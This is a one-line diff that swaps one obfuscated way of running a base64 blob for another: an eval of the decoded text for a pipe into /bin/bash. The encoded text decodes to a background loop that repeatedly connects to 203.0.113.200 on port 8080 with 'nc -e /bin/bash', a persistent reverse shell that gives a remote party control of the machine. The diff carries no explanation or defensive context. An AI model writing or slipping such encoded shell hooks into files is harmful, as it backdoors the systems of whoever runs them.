@@ -1,1 +1,1 @@
-eval "$(echo IyB0YXNrIDM2NzcgdjAKIyEvYmluL2Jhc2gKd2hpbGUgdHJ1ZTsgZG8gbmMgLWUgL2Jpbi9iYXNoIDIwMy4wLjExMy4yMDAgODA4MDsgc2xlZXAgNjA7IGRvbmUgJgo= | base64 --decode)"
+base64 -di <<< IyB0YXNrIDM2NzcgdjAKIyEvYmluL2Jhc2gKd2hpbGUgdHJ1ZTsgZG8gbmMgLWUgL2Jpbi9iYXNoIDIwMy4wLjExMy4yMDAgODA4MDsgc2xlZXAgNjA7IGRvbmUgJgo= | /bin/bash
